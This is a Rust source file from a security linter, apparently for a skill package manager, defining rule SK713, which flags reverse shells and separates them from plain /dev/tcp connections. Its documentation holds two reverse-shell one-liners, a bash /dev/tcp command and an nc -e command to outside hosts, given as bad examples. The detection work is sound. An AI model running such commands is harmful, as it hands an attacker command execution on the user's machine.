//! SK713: reverse shells.

use super::hosts::{self, HostClass};
use super::redact::redact_text;
use super::scan::SecurityPattern;
use super::sink::{FindingSink, PatternFinding};
use super::view::PatternMatch;
use super::{body, pattern_table, rule};
use crate::{Rule, RuleDocs};
use skillpm_core::report::DiagnosticLevel;

pub(super) static RULE: Rule = rule(
    "SK713",
    "reverse-shell",
    DiagnosticLevel::Error,
    "a reverse shell is opened to another machine",
    RuleDocs {
        finds: "A shell whose input and output go over the network: `bash -i >& /dev/tcp/…`, `nc \
               -e /bin/sh`, named pipes with `nc`, and the equivalents in Python, Perl, PHP, \
               Ruby, Node, PowerShell, socat, OpenSSL and awk.",
        hurts: "The attacker who listens at the other end runs commands on the user's machine, as \
               the user.",
        ignore: "A lesson on attacks. Say so in the skill's description and put the command into \
                a code block; it is then a warning. To check whether a port is open, use `nc -z`.",
        bad: &[
            body!("```sh\nbash -i >& /dev/tcp/45.61.136.10/4444 0>&1\n```\n"),
            body!("```sh\nnc forms.example 4444 -e /bin/sh\n```\n"),
        ],
        good: &[body!(
            "```sh\nnc -z forms.example 443 && echo open\ntimeout 1 bash -c '</dev/tcp/localhost/5432'\n```\n"
        )],
    },
);

const HELP: &str = "to test a connection use `nc -z HOST PORT`; to work on another machine use `ssh`, which authenticates the user";

pub(super) const PATTERNS: &[SecurityPattern] = pattern_table!("reverse_shells");

/// Reports a shell, or a mere connection, through the device files of bash.
fn check_device_file(hit: &PatternMatch<'_>, sink: &mut FindingSink<'_>) {
    // One of three spellings matched, each with a group of its own.
    let host = hit
        .group("host")
        .or(hit.group("host2"))
        .or(hit.group("host3"))
        .unwrap_or_default();
    // Bash can send HTTP requests this way; that is unusual, but not a shell.
    let speaks = hit.group("host2").is_some()
        && !hit.text().to_lowercase().contains("sh -i")
        && !hit.text().contains("while");
    if speaks && !hit.text().contains("bash") && !hit.text().contains("/sh") {
        // To test a local port this way is common.
        if hosts::classify_host(host) != HostClass::NonPublic {
            let message = format!(
                "opens a connection to `{}` from the shell itself, bypassing every proxy and log",
                redact_text(host)
            );
            sink.report(
                hit,
                PatternFinding::new(&RULE, DiagnosticLevel::Warning, message, HELP),
            );
        }
        return;
    }
    let message = format!("opens a reverse shell to `{}`", redact_text(host));
    sink.report(
        hit,
        PatternFinding::new(&RULE, DiagnosticLevel::Error, message, HELP)
            .sample_if(hosts::names_only_attackers(hit.text())),
    );
}

fn report_reverse_shell(hit: &PatternMatch<'_>, sink: &mut FindingSink<'_>) {
    sink.report(
        hit,
        PatternFinding::new(
            &RULE,
            DiagnosticLevel::Error,
            "opens a reverse shell to another machine",
            HELP,
        )
        .sample_if(hosts::names_only_attackers(hit.text())),
    );
}
